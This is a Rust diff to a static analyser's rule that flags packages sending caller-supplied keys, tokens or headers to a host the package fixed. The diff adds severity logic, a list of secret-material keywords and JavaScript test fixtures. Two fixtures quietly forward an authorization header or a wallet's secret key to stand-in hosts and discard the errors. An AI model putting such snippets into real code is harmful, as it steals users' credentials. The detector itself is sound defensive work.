@@ -4,14 +4,14 @@ use std::collections::BTreeMap;
 
 use super::{Context, Declaration, Example, Finding, host, judge, matrix};
 use crate::api::targets;
-use crate::flow::Flow;
+use crate::flow::{End, Flow};
 use crate::model::{Confidence, Origin, Severity};
 
 pub(super) static FINDING: Declaration = Declaration {
     id: "parameter-exfiltration",
     title: "Sends what a caller hands over to a host of its own choice",
     severity: Severity::High,
-    summary: "A function that others call takes a key, a seed or a pass phrase, or anything at all, and what it takes reaches a host that the package fixed and the caller cannot choose: a private key has no business leaving the process, and a collecting service no business getting arguments.",
+    summary: "A function that others call takes a key, a seed or a pass phrase, or anything at all, and what it takes reaches a host that the package fixed and the caller cannot choose: a private key has no business leaving the process, a collecting service no business getting arguments, and who asks a service something takes its answer.",
     advice: "Look at what the host is. A library that signs or encrypts does not need to send the key; if it did, take the key for known to others.",
     benign_when: "The package is a client of a service that keeps keys for its users, and the host is that service's.",
     references: &["CWE-200", "CWE-506", "T1041"],
@@ -130,6 +130,59 @@ exports.upload = (key, file) => fetch("https://files.service.example/v1", { meth
             ],
         },
         Example {
+            name: "a header of each request also goes to a host whose answer nobody takes",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const https = require("https");
+const warm = (host, headers) => {
+  const request = https.request({ host: "edge.other.invalid", path: "/p?h=" + host, headers: { "x-fwd": headers.authorization } });
+  request.on("error", () => {});
+  request.end();
+};
+exports.call = (host, headers) => {
+  warm(host, headers);
+  return fetch("https://" + host, { headers });
+};"#,
+                ),
+            ],
+        },
+        Example {
+            name: "a wallet hands its keys to its own maker",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js","repository":"https://git.kit.example/a"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"exports.open = (secretKey) => {
+  fetch("https://rpc.kit.example/warm", { method: "POST", headers: { "x-id": secretKey.toString("hex") } }).catch(() => {});
+};"#,
+                ),
+            ],
+        },
+        Example {
+            name: "what is counted for the service that the package is named after",
+            severity: None,
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"vendor-browser","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"exports.track = (event) => { fetch("https://in.vendor.example/e", { method: "POST", body: event }).catch(() => {}); };"#,
+                ),
+            ],
+        },
+        Example {
             name: "a client posts what it is given to its service",
             severity: None,
             files: &[
@@ -182,6 +235,17 @@ const LOGINS: [&str; 12] = [
 ];
 /// Names that mean a key only as a whole.
 const WHOLE: [&str; 6] = ["priv", "prv", "seed", "sk", "wif", "xprv"];
+/// What else keys and cards are handed over as.
+const MATERIAL: [&str; 8] = [
+    "cardholder",
+    "iban",
+    "jwk",
+    "keydata",
+    "keymaterial",
+    "otp",
+    "pem",
+    "pkcs8",
+];
 /// Classes of hosts that collect what anybody sends.
 const COLLECTORS: [&str; 6] = [
     "oast",
@@ -250,16 +314,26 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
         let to = secret_domain(context, flow);
         let is_doubled = to.is_some_and(|to| is_second(&domains, &to));
         let severity = match taker {
+            // Not even the maker of a wallet gets its keys, least of all by the way.
+            "own" if is_key => Severity::High,
             "own" | "registry" | "local" | "callers" | "unknown" => continue,
             _ if is_key && (collects || is_hidden) => Severity::Critical,
             _ if is_key => Severity::High,
             // One service gets its own key; a second one has no use for it.
             "foreign" if is_doubled => Severity::High,
+            // Who asks a service something takes the answer.
+            _ if flow.is_unanswered && names_secret(&flow.source) => Severity::High,
+            "foreign" if is_namesake(context, url) => continue,
+            _ if flow.is_unanswered => Severity::Medium,
             _ if is_request && is_hidden => Severity::High,
             _ if collects || is_request => Severity::Medium,
             _ => continue,
         };
-        let message = format!("{name}, which a caller hands over, is sent to {url}");
+        let rest = match flow.is_unanswered {
+            true => ", and nobody takes the answer",
+            false => "",
+        };
+        let message = format!("{name}, which a caller hands over, is sent to {url}{rest}");
         let mut finding = Finding::of_flow(&FINDING, flow, message);
         finding.severity = severity;
         if severity < Severity::Critical {
@@ -277,6 +351,25 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
     }
 }
 
+/// Whether a host bears the package's name, as that of a service for it does.
+fn is_namesake(context: &Context<'_>, url: &str) -> bool {
+    let at = host::host(url).unwrap_or_default();
+    let name = context.manifest.name.as_deref().unwrap_or_default();
+    let mut words = name
+        .split(['@', '/', '-', '_', '.'])
+        .filter(|word| word.len() > 1);
+    words.next() == Some(host::label(&at))
+}
+
+/// Whether any part of what a caller hands over is named as a secret is; keys are of many kinds.
+fn names_secret(source: &End) -> bool {
+    let name = source.target.as_deref().unwrap_or_default();
+    name.split('.').any(|part| {
+        let plain = plain(part);
+        plain != "key" && (is_secret(part) || MATERIAL.contains(&&*plain))
+    })
+}
+
 fn plain(name: &str) -> String {
     name.chars()
         .filter(char::is_ascii_alphanumeric)
@@ -290,7 +383,7 @@ fn is_secret(name: &str) -> bool {
     plain == "key" || is_login(name) || is_key(name) || plain.contains("secret")
 }
 
-fn is_login(name: &str) -> bool {
+pub(super) fn is_login(name: &str) -> bool {
     let plain = plain(name);
     LOGINS.iter().any(|login| plain.contains(login))
 }
